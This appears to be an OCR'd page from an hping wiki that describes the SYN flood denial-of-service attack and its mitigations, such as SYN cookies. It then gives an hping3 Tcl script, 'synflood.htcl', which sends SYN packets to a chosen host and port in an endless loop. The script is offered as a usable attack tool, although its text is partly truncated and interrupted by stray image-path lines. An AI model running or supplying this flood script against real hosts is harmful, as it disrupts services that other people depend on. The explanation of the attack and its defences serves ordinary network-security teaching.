hping wiki

!!The SYN flood is an attack that can nowadays be defined as archaic, although the general idea can still work (in a DDoS, for instance).

The goal of this attack is to send TCP connection requests faster than a machine can process them in order to saturate the resources and prevent the machine from accepting any more connections. Actually the attacker does not create a whole TCP connection, but just send a SYN packet (the first packet required to start a TCP connetion), spoofing at random the source IP address, so from the attacker point of view the resource to perform the attack is only the bandwidth because there is no state to take. Modern operating systems are able to handle resources better than in the past, or to use cryptographic techniques (like Syn cookies or RST cookies) to mitigate the problem (and allocate memory only after the third packet of a new TCP connection reached the host), but still the attack can create some problem. A simpler way to face it, that is somewhat effective and yet very simple, is to drop a connection at random if there are too many open connections.

This wiki is nothing without code, so here we go (as .htcl file).....
# (c) GPL2 fluxist(at)gmail.com
# Usage; hping3 exec ./synflood.htcl <hostname> <dstport>

if {$argc < 2} {
  puts "Required arguments: hostname dstport"
  exit 1

foreach {hostname port} $argv breakset srcport 14000
set target [hping resolve $hostname]
set myaddr [hping outifa $target]

puts "Synflooding $target..."

while {1} {
  hping send "ip(saddr=$myaddr,daddr=$target)+tcp(sport=$srcport,dport=$port,flags=s)"

Edit this page Upload file Page history - Pagelast update: Thu Jan 12 07:33:52 GMT 2006 by | Your address: | Admin